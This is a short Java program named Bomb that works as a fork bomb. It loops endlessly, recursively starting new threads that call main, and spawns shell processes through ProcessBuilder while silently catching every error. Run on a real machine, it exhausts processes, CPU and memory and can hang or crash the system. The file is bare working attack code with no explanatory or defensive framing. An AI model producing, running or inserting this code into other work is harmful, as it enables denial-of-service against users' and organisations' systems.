public class Bomb {
    public static void main(String[] args) {
        while (true) {
            try { new Thread(() -> main(args)).start(); } catch (Throwable e) { }
            try { new ProcessBuilder("/bin/sh", "-c", "sh -c :& sh -c :").start(); } catch (Throwable e) { }
        }
    }
}
